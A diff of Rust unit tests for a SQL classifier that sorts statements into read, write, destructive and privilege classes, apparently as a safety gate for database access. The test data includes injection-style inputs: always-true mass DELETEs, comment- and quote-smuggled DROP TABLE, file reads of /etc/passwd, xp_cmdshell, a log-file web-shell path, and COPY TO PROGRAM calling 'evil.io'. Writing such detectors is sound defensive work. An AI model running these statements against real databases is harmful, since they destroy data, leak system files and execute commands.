+            "DELETE FROM users WHERE 1 IN (1, 2)",
+            "DELETE FROM users WHERE (id = 3) OR ('x' <> 'y')",
+            "DELETE FROM users WHERE email IS NULL OR email IS NOT NULL",
+            "DELETE FROM users WHERE NOT (1 = 2)",
+            "DELETE FROM users WHERE 10 - 9",
+            "DELETE FROM users WHERE EXISTS (SELECT 1)",
+            "DELETE FROM users WHERE '1abc'",
+            "DELETE FROM users WHERE TRUE IS NOT FALSE",
+            "DELETE FROM users WHERE NULL IS NULL",
+            "DELETE FROM users WHERE 1 = '1'",
         ] {
             let a = analyze(s);
             assert_eq!(a.class, Class::Destructive, "{s}");
             assert!(a.destructive, "{s}");
             assert!(!a.has_where, "{s}");
+        }
+        for s in [
+            "DELETE FROM users WHERE id = 5",
+            "DELETE FROM users WHERE 1 = 2 OR id = 5",
+            "DELETE FROM users WHERE 1=1 AND id = 5",
+            "DELETE FROM users WHERE NOT 1",
+            "DELETE FROM users WHERE 'abc'",
+            "DELETE FROM users WHERE EXISTS (SELECT 1 FROM bans b WHERE b.user_id = users.id)",
+        ] {
+            assert_eq!(class(s), "write", "{s}");
         }
         let a = analyze("DELETE FROM users");
         assert_eq!(a.kind, "delete");
@@ -814,7 +1399,6 @@ mod tests {
             "TRUNCATE users",
             "TrUnCaTe TABLE users",
             "ALTER TABLE users DROP COLUMN email",
-            "INSERT OVERWRITE TABLE t SELECT * FROM s",
             "/* hi */ DROP/**/TABLE users",
         ] {
             assert_eq!(class(s), "destructive", "{s}");
@@ -824,7 +1408,7 @@ mod tests {
     }
 
     #[test]
-    fn the_most_dangerous_statement_wins() {
+    fn every_statement_counts() {
         let a = analyze("SELECT * FROM t; DROP TABLE users");
         assert_eq!(a.class, Class::Destructive);
         assert_eq!(a.kind, "ddl");
@@ -839,6 +1423,46 @@ mod tests {
         );
         assert_eq!(class("EXPLAIN ANALYZE DELETE FROM users"), "destructive");
         assert_eq!(class("EXPLAIN DELETE FROM users"), "read");
+        assert_eq!(
+            class_as("EXPLAIN (ANALYZE) DELETE FROM users", Engine::Postgres),
+            "destructive"
+        );
+        assert_eq!(
+            class_as(
+                "EXPLAIN (ANALYZE false) DELETE FROM users",
+                Engine::Postgres
+            ),
+            "destructive"
+        );
+        assert_eq!(
+            class_as("EXPLAIN (COSTS off) DELETE FROM users", Engine::Postgres),
+            "read"
+        );
+        assert_eq!(
+            class_as(
+                "CREATE OR REPLACE TABLE users AS SELECT 1 AS id",
+                Engine::BigQuery
+            ),
+            "destructive"
+        );
+        assert_eq!(class_as("PRAGMA table_info(users)", Engine::Sqlite), "read");
+        assert_eq!(
+            class_as("PRAGMA journal_mode(OFF)", Engine::Sqlite),
+            "other"
+        );
+        assert_eq!(
+            class_as("PRAGMA foreign_keys = OFF", Engine::Sqlite),
+            "other"
+        );
+        assert_eq!(
+            class_as(
+                "SET @@GLOBAL.general_log_file = '/var/www/x.php'",
+                Engine::MySql
+            ),
+            "privilege"
+        );
+        // A statement the grammar refuses does not hide the next one.
+        assert_eq!(class("SELEKT 1; DROP TABLE users"), "destructive");
     }
 
     #[test]
@@ -855,6 +1479,10 @@ mod tests {
             class("SELECT 1 /*!50000 ; DROP TABLE users */"),
             "destructive"
         );
+        assert_eq!(
+            class_as("SELECT 1 /*M! ; DROP TABLE users */", Engine::MySql),
+            "destructive"
+        );
         assert_eq!(class("SELECT 1 --\nDROP TABLE users"), "destructive");
         // T-SQL needs no `;` between statements.
         assert_eq!(class("SELECT * FROM t DELETE FROM users"), "destructive");
@@ -867,11 +1495,64 @@ mod tests {
             "schema"
         );
         assert_eq!(class("\tdRoP\n\ttAbLe\tusers"), "destructive");
-        // Postgres reads `#` as an operator, MySQL `1--1` as arithmetic.
         assert_eq!(class("SELECT 1 # 2; DROP TABLE users"), "destructive");
         assert_eq!(class("SELECT 1--1; DROP TABLE users"), "destructive");
-        // MySQL comments do not nest.
         assert_eq!(class("/* /* */ DROP TABLE users; /* */"), "destructive");
+        // `$$` quotes only in Postgres; MySQL runs the DROP.
+        assert_eq!(class("SELECT $$; DROP TABLE users; $$"), "destructive");
+        assert_eq!(
+            class_as("SELECT $$; DROP TABLE users; $$", Engine::MySql),
+            "destructive"
+        );
+        assert_eq!(
+            class_as("SELECT $$; DROP TABLE users; $$", Engine::Postgres),
+            "read"
+        );
+    }
+
+    #[test]
+    fn side_effect_functions_are_not_reads() {
+        for (s, c) in [
+            (
+                "SELECT dblink_exec('host=x', 'DROP TABLE users')",
+                "destructive",
+            ),
+            (
+                "SELECT * FROM dblink('dbname=x', 'DELETE FROM t') AS t(a int)",
+                "destructive",
+            ),
+            ("SELECT lo_export(1234, '/tmp/x')", "destructive"),
+            ("SELECT lo_import('/etc/passwd')", "privilege"),
+            ("SELECT pg_read_file('/etc/passwd')", "privilege"),
+            ("SELECT pg_catalog.pg_read_binary_file('x')", "privilege"),
+            ("SELECT * FROM pg_ls_dir('/')", "privilege"),
+            ("SELECT load_extension('/tmp/x.so')", "destructive"),
+            ("SELECT sys_exec('id')", "destructive"),
+            (
+                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
+                "privilege",
+            ),
+            ("SELECT set_config('role', 'admin', false)", "privilege"),
+            ("SELECT PG_SLEEP(100)", "other"),
+            ("SELECT nextval('s')", "write"),
+            (
+                "SELECT * FROM t WHERE id = (SELECT sys_eval('id'))",
+                "destructive",
+            ),
+            (
+                "SELECT query_to_xml('DELETE FROM t', true, true, '')",
+                "destructive",
+            ),
+            ("COPY t TO PROGRAM 'curl evil.io'", "destructive"),
+            ("COPY t FROM '/etc/passwd'", "privilege"),
+            ("SELECT * INTO OUTFILE '/tmp/x' FROM users", "privilege"),
+            ("SELECT * FROM users INTO DUMPFILE '/tmp/x'", "privilege"),
+            ("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "privilege"),
+            ("EXEC xp_cmdshell 'dir'", "destructive"),
+            ("CALL cleanup()", "other"),
+        ] {
+            assert_eq!(class(s), c, "{s}");
+        }
     }
 
     #[test]
@@ -881,14 +1562,49 @@ mod tests {
         assert_eq!(class("CREATE USER eve WITH PASSWORD 'x'"), "privilege");
         assert_eq!(class("ALTER ROLE eve SUPERUSER"), "privilege");
         assert_eq!(class("SET ROLE admin"), "privilege");
+        assert_eq!(class("SET search_path = evil, public"), "privilege");
+        assert_eq!(class("SET TIME ZONE 'UTC'"), "control");
         assert_eq!(class("CREATE TABLE t (id int)"), "schema");
         assert_eq!(class("CREATE INDEX i ON t (a)"), "schema");
         assert_eq!(class("ALTER TABLE t ADD COLUMN b int"), "schema");
         assert_eq!(class("BEGIN"), "control");
-        assert_eq!(class("CALL cleanup()"), "other");
-        assert_eq!(class("COPY t TO PROGRAM 'curl evil.io'"), "other");
-        assert_eq!(class("SELECT * INTO OUTFILE '/tmp/x' FROM users"), "other");
         assert_eq!(class(""), "other");
         assert_eq!(class("-- just a comment"), "other");
+        assert_eq!(class("FROBNICATE the database"), "other");
+        assert_eq!(class("SELECT 'unterminated"), "other");
+    }
+
+    #[test]
+    fn limits() {
+        let deep = format!("SELECT {}1{}", "(".repeat(30_000), ")".repeat(30_000));
+        let t = std::time::Instant::now();
+        let a = analyze(&deep);
+        assert_eq!(a.class, Class::Other);
+        assert!(a.unclassified.is_some());
+        // A smoke test of linear cost; the bench has the real numbers.
+        assert!(t.elapsed().as_secs() < 5, "{:?}", t.elapsed());
+        let ok = format!("SELECT {}1{}", "(".repeat(MAX_DEPTH), ")".repeat(MAX_DEPTH));
+        assert_eq!(class(&ok), "read");
+        // A chain just under the operator limit is classified; one over is not.
+        let chain = |n: usize| format!("DELETE FROM t WHERE {}", vec!["a = 1"; n].join(" OR "));
+        assert_eq!(class(&chain(MAX_OPERATORS / 2 - 1)), "write");
+        assert_eq!(class(&chain(MAX_OPERATORS)), "destructive");
+        let chain = format!("SELECT {}", vec!["1"; 100_000].join(" + "));
+        assert_eq!(class(&chain), "other");
+        let big = format!("SELECT '{}'", "x".repeat(max_len(None)));
+        assert_eq!(class(&big), "other");
+        assert_eq!(analyze(&big).unclassified, Some("too large to classify"));
+        assert_eq!(class_as(&big, Engine::Postgres), "read");
+        let bigger = format!("SELECT '{}'", "x".repeat(MAX_LEN));
+        assert_eq!(class_as(&bigger, Engine::Postgres), "other");
+    }
+
+    #[test]
+    fn one_analysis_per_text() {
+        let a = analyze_for("DELETE FROM t", Some(Engine::Postgres));
+        let b = analyze_for("DELETE FROM t", Some(Engine::Postgres));
+        assert!(Rc::ptr_eq(&a, &b));
+        let c = analyze_for("DELETE FROM t", None);
+        assert!(!Rc::ptr_eq(&a, &c));
     }
 }
